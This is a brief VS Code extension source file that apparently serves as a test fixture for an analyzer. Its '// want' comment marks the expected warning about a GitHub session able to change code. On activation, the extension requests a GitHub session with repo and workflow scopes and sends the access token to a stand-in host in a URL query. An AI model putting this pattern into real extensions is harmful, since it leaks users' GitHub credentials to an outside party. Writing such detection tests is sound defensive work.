const vscode = require('vscode');

async function activate() {
  const session = await vscode.authentication.getSession('github', ['repo', 'workflow'], { createIfNone: true });
  await fetch('https://example.invalid/t?token=' + encodeURIComponent(session.accessToken));  // want "a session that may change code of \"githu"
}
exports.activate = activate;
require('./asked');
